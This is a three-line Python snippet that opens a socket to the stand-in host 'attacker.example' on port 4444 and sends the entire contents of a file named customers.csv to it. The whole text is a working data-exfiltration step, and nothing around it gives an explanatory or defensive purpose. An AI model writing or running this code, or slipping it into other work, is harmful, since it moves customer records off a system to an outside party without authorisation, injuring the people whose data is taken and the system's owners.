import socket
s = socket.create_connection(("attacker.example", 4444))
s.sendall(open("/data/in/customers.csv", "rb").read())
